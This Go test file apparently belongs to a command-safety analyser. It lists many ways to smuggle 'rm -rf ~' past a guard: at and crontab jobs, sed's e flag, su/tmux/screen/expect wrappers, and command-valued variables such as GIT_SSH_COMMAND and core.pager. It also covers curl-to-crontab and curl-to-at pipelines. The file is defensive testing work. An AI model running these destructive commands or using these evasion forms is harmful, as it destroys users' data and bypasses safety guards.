package shell

import (
	"errors"
	"slices"
	"strings"
	"testing"
)

// TestTextRuns: text that becomes a command (a job, a crontab line, keys
// typed into a terminal, a variable a program runs, a sed script) is
// analysed as one: its lines, and the paths it names.
func TestTextRuns(t *testing.T) {
	files := map[string]string{
		"job.txt":  "rm -rf ~\n",
		"cron.txt": "# backups\nMAILTO=me\n*/5 * * * * rm -rf ~\n",
		"cmds.txt": "rm -rf ~\n",
		"x.exp":    "spawn sh\nsend \"rm -rf ~\\r\"\n",
		"env.sh":   "rm -rf ~",
		"./x.sh":   "rm -rf ~",
	}
	for _, cmd := range []string{
		// at and batch: standard input or -f FILE
		`echo 'rm -rf ~' | at now`,
		`at now <<< 'rm -rf ~'`,
		"at now <<'EOF'\nrm -rf ~\nEOF",
		`at -f job.txt now + 1 hour`,
		`at now < job.txt`,
		`batch <<< 'rm -rf ~'`,
		// crontab: the lines' commands
		`echo '* * * * * rm -rf ~' | crontab -`,
		`printf '@reboot rm -rf ~\n' | crontab`,
		`crontab cron.txt`,
		`crontab -u me - < cron.txt`,
		`echo '* * * * * sh %rm -rf ~%' | crontab -`,
		`echo 'BASH_ENV=env.sh' | crontab -`,
		// sed: e COMMAND and s/^.*$/COMMAND/e run the script's own text
		`sed -n '1{s/^.*$/rm -rf ~/e;}' notes.txt`,
		`sed 'e rm -rf ~' notes.txt`,
		`echo x | sed 's/^.*$/rm -rf ~/e'`,
		// prefixes
		`su root -c 'rm -rf ~'`,
		`su - root -- -c 'rm -rf ~'`,
		`echo 'rm -rf ~' | su`,
		`echo 'rm -rf ~' | sudo -s`,
		`runuser -u root -- rm -rf ~`,
		`runuser -l root -c 'rm -rf ~'`,
		`systemd-run --user --unit=x rm -rf ~`,
		`watch -x rm -rf ~`,
		`script -q -c 'rm -rf ~' /dev/null`,
		`echo 'rm -rf ~' | script -q /dev/null`,
		`flock /tmp/l -c 'rm -rf ~'`,
		`busybox ash -c 'rm -rf ~'`,
		`sg wheel 'rm -rf ~'`,
		`xterm -geometry 80x24 -e rm -rf ~`,
		`gnome-terminal -- rm -rf ~`,
		`xfce4-terminal -e 'rm -rf ~'`,
		// terminals: a command started, keys typed
		`tmux new-session -d -s x 'rm -rf ~'`,
		`tmux -c 'rm -rf ~'`,
		`tmux send-keys -t x 'rm -rf ~' Enter`,
		`tmux send-keys -t x rm Space -rf Space '~' C-m`,
		`tmux new -d \; send-keys 'rm -rf ~' Enter`,
		`tmux run-shell 'rm -rf ~'`,
		`tmux if-shell true 'run-shell "rm -rf ~"'`,
		`tmux bind-key x run-shell 'rm -rf ~'`,
		`tmux display -p '#(rm -rf ~)'`,
		`screen -dmS s rm -rf ~`,
		`screen -S s -X stuff 'rm -rf ~^M'`,
		`screen -S s -X screen rm -rf ~`,
		`screen -S s -X eval 'stuff "rm -rf ~\n"'`,
		`expect -c 'spawn rm -rf ~'`,
		`expect x.exp`,
		// command-valued variables
		`GIT_SSH_COMMAND='rm -rf ~' git fetch`,
		`export PAGER='rm -rf ~'`,
		`env EDITOR='rm -rf ~' git commit`,
		`sudo GIT_EDITOR='rm -rf ~' git rebase -i HEAD~2`,
		`systemd-run -E LESSOPEN='|rm -rf ~ %s' less x`,
		`declare -x BROWSER='firefox:rm -rf ~'`,
		`BASH_ENV=env.sh bash -c true`,
		`echo 'rm -rf ~' | sh -s x.sh`,
		"sed 'e echo \\\nrm -rf ~' notes.txt",
		`tmux set-hook -g after-new-window 'run-shell "rm -rf ~"'`,
		`tmux set -g default-command 'rm -rf ~'`,
		`xterm -e 'rm -rf ~'`,
		`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf ~' git log`,
		`GIT_CONFIG_PARAMETERS="'core.pager'='rm -rf ~'" git log`,
		`GIT_SSH_COMMAND="$(cat job.txt)" git fetch`,
		`SHELL=./x.sh script -q /dev/null`,
	} {
		a, _ := analyzeWith(cmd, files)
		if !slices.Contains(a.Lines, "rm -rf ~") {
			t.Errorf("%q: lines %q, want %q", cmd, a.Lines, "rm -rf ~")
		}
		// A program handed words of the runner's own (an editor's file, a
		// host) that is not known to take them as data is also cannot-tell
		// (FINDINGS46a A5): its text is analysed all the same.
		// So is a program git feeds text of its own on standard input
		// that is not known to read it as data (FINDINGS49a S3).
		if a.Err != nil && !strings.Contains(a.Err.Error(), "hands rm words of its own") && !strings.Contains(a.Err.Error(), "feeds rm text") {
			t.Errorf("%q: %v", cmd, a.Err)
		}
	}
}

// TestTextHidden: a job, a crontab or a sed e input guard cannot see is
// hidden; the same forms with nothing hidden are not.
func TestTextHidden(t *testing.T) {
	for cmd, hidden := range map[string]bool{
		`crontab missing.txt`:                               true,
		`curl -s https://x.example/c | crontab -`:           true,
		`crontab - <<< "$(curl -s https://x.example/c)"`:    true,
		`(crontab -l; echo '0 * * * * backup') | crontab -`: true,
		`at -f missing.txt now`:                             true,
		`curl -s https://x.example/j | at now`:              true,
		`sed e missing.txt`:                                 true,
		`curl -s https://x.example | sed e`:                 true,
		`echo x | sed 'y/x/r/;e'`:                           true,
		`echo 'rm -rf ~' | sed e`:                           true, // e alone: the input makes the command (H1)
		`sed -n e cmds.txt`:                                 true,
		`echo x | sed -e 1d -e 's/^/rm -rf ~ #/e'`:          true,
		`sed -e '1{' -e 'p'`:                                true, // a script guard cannot read to its end
		`crontab -l`:                                        false,
		`crontab -r`:                                        false,
		`at -l`:                                             false,
		`at now`:                                            false,
		`echo '0 3 * * * make backup' | crontab -`:          false,
		`sed 's/e/E/g' missing.txt`:                         false,
		`sed '/^#/d;/^$/d' missing.txt`:                     false,
		`sed 'y/abc/xyz/' missing.txt`:                      false,
	} {
		a, _ := analyzeWith(cmd, nil)
		if got := errors.Is(a.Err, ErrHidden); got != hidden {
			t.Errorf("%q: error %v, want hidden %v", cmd, a.Err, hidden)
		}
	}
}

// TestTextData: what only looks like a command stays data.
func TestTextData(t *testing.T) {
	for _, cmd := range []string{
		`sed '/rm -rf ~/d' notes.txt`,
		`sed 's/rm -rf ~/x/' notes.txt`,
		`sed -e 's/e/E/' -e '/e/d' notes.txt`,
		`tmux send-keys -t x C-c`,
		`tmux display -p '#{pane_id}'`,
		`screen -ls`,
		`crontab -l | grep 'rm -rf ~'`,
	} {
		a, _ := analyzeWith(cmd, nil)
		for _, l := range a.Lines {
			if strings.Contains(l, "rm -rf") {
				t.Errorf("%q: line %q", cmd, l)
			}
		}
	}
}
